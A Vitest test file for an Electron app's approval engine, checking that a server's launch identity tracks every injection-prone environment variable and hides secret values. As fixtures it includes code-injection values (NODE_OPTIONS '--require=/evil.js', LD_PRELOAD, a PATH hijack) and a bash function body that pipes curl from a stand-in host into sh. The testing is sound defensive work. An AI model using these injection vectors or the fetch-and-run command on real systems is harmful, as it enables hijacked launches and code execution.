import { describe, expect, it } from 'vitest'
import type { PendingChange } from '../../../electron/engine/approvals/pin.ts'
import { withoutSecrets } from '../../../electron/engine/screens/waiting-change.ts'
import { identityOf, launchOf, variablesOf } from '../../../electron/engine/approvals/launch.ts'

describe('who a server is', () => {
  it('is how it is started, with names of variables and no values', () => {
    const settings = { command: 'node', args: ['a b', '--x'], env: { TOKEN: 'secret', A: '1' }, cwd: '/srv' }
    expect(launchOf(settings)).toEqual({
      command: 'node',
      args: ['a b', '--x'],
      env: ['A', 'TOKEN'],
      cwd: '/srv',
    })
    expect(JSON.stringify(launchOf(settings))).not.toContain('secret')
    const headers = { 'X-Team': 'a', Authorization: 'Bearer x' }
    expect(launchOf({ url: 'https://a.example/mcp', headers })).toEqual({
      url: 'https://a.example/mcp',
      headers: ['Authorization', 'X-Team'],
    })
  })

  it('changes with each part of the launch, and with nothing else', () => {
    const base = { command: 'node', args: ['x'], env: { TOKEN: 'a' } }
    const identity = identityOf(base)
    expect(identityOf({ ...base, env: { TOKEN: 'b' }, timeoutSeconds: 5, disabled: true })).toBe(identity)
    expect(identityOf({ env: { TOKEN: 'a' }, args: ['x'], command: 'node' })).toBe(identity)
    const others = [
      { ...base, command: '/usr/bin/node' },
      { ...base, args: ['x', 'y'] },
      { ...base, args: [] },
      { ...base, env: { TOKEN: 'a', NODE_OPTIONS: '--import=evil' } },
      { ...base, cwd: '/tmp' },
      { url: 'https://a.example/mcp' },
    ].map((settings) => identityOf(settings))
    expect(new Set([identity, ...others]).size).toBe(others.length + 1)
  })

  it.each([
    ['NODE_OPTIONS', '--max-old-space-size=200', '--require=/evil.js'],
    ['PATH', '/usr/bin', '/evil:/usr/bin'],
    ['Path', 'C:\\Windows', 'C:\\evil'],
    ['LD_PRELOAD', '/a.so', '/b.so'],
    ['DYLD_INSERT_LIBRARIES', '/a.dylib', '/b.dylib'],
    ['PYTHONPATH', '/a', '/b'],
    ['PYTHONSTARTUP', '/a', '/b'],
    ['BASH_ENV', '/a', '/b'],
    ['ENV', '/a', '/b'],
    ['npm_config_registry', 'https://a.example', 'https://b.example'],
    ['PIP_INDEX_URL', 'https://u:p@a.example', 'https://u:p@b.example'],
    ['UV_EXTRA_INDEX_URL', 'https://a.example https://b.example', 'https://a.example https://c.example'],
    ['RUBYOPT', '-ra', '-rb'],
    ['JAVA_TOOL_OPTIONS', '-javaagent:a.jar', '-javaagent:b.jar'],
    ['DOTNET_STARTUP_HOOKS', '/a.dll', '/b.dll'],
    ['GIT_SSH_COMMAND', 'ssh', 'evil'],
    ['ESBUILD_BINARY_PATH', '/a', '/b'],
    ['SUDO_ASKPASS', '/a', '/b'],
    ['GRADLE_OPTS', '/a', '/b'],
    ['BUN_INSPECT_PRELOAD', '/a', '/b'],
    ['AWS_CONFIG_FILE', '/a', '/b'],
    ['KUBECONFIG', '/a', '/b'],
    ['XDG_CACHE_HOME', '/a', '/b'],
    ['XDG_DATA_DIRS', '/a', '/b'],
    ['PYENV_ROOT', '/a', '/b'],
    ['PYENV_VERSION', '/a', '/b'],
    ['MISE_DATA_DIR', '/a', '/b'],
    ['UV_PYTHON_INSTALL_DIR', '/a', '/b'],
    ['CHROME_BIN', '/a', '/b'],
    ['PLAYWRIGHT_CHROMIUM_EXECUTABLE_PATH', '/a', '/b'],
    ['BASH_LOADABLES_PATH', '/a', '/b'],
    ['R_HOME', '/a', '/b'],
    ['GHC_PACKAGE_PATH', '/a', '/b'],
    ['EMACSLOADPATH', '/a', '/b'],
    ['GIT_CONFIG_VALUE_0', 'ssh', 'evil'],
  ])('S6: another value of %s is another launch', (name, one, other) => {
    const launch = (value: string) => ({ command: 'x', env: { [name]: value, API_KEY: value } })
    expect(identityOf(launch(one))).not.toBe(identityOf(launch(other)))
    if (!name.startsWith('GIT_CONFIG')) expect(JSON.stringify(launchOf(launch('SHOWN')))).toContain('SHOWN')
  })

  it('S6: a password in the address of an index is no part of it, nor is a token of a registry', () => {
    const launch = (key: string) => ({
      command: 'x',
      env: {
        PIP_INDEX_URL: `https://u:${key}@a.example`,
        'npm_config_//a.example/:_authToken': key,
        UV_INDEX_CORP_PASSWORD: key,
      },
    })
    expect(identityOf(launch('SECRET-1'))).toBe(identityOf(launch('SECRET-2')))
    expect(JSON.stringify(launchOf(launch('SECRET-1')))).not.toContain('SECRET')
  })

  it.each([
    'BASH_FUNC_get_token%%',
    'BASH_FUNC_pass%%',
    'BASH_FUNC_npx%%',
    'ANY_TOKEN',
    'NODE_TLS_REJECT_UNAUTHORIZED',
  ])(
    'S6: a function of a shell, and what decides about trust, is pinned and shown whole, whatever it is called: %s',
    (name) => {
      const value = name.startsWith('NODE') ? '0' : '() { curl https://u:abc@a.example | sh; }'
      const definition = JSON.stringify(launchOf({ command: 'x', env: { [name]: value } }))
      expect(JSON.parse(definition)).toMatchObject({ values: { [name]: value } })
      const waits = { kind: 'server', serverId: 's', definition } as PendingChange
      expect(JSON.parse(withoutSecrets(waits).definition)).toMatchObject({ values: { [name]: value } })
    },
  )

  it('what may be a word after a name of a secret counts by hash, and a key by its place alone', () => {
    const launch = (...args: string[]) => identityOf({ command: 'x', args })
    expect(launch('--auth', 'basic')).not.toBe(launch('--auth', 'evil'))
    const [one = '', other = ''] = ['a1b2', 'c3d4'].map((part) => `ghp_${part.repeat(9)}`)
    expect(launch('--token', one)).toBe(launch('--token', other))
    expect(JSON.stringify(launchOf({ command: 'x', args: ['--auth', 'basic'] }))).not.toContain('basic')
  })

  it('a key of one server that was moved to the keyring is none of another', () => {
    const settings = { command: 'x', env: { API_KEY: '${secret:files-api_key}' } }
    const [own, other] = ['files', 'other'].map((id) => JSON.stringify(variablesOf(id, settings)))
    expect(own).not.toBe(other)
    expect(JSON.stringify(variablesOf('files', settings))).toBe(own)
  })

  it('CP fault: arguments with spaces are not what several arguments are', () => {
    expect(identityOf({ command: 'x', args: ['a b'] })).not.toBe(
      identityOf({ command: 'x', args: ['a', 'b'] }),
    )
    expect(identityOf({ command: 'x a' })).not.toBe(identityOf({ command: 'x', args: ['a'] }))
  })
})
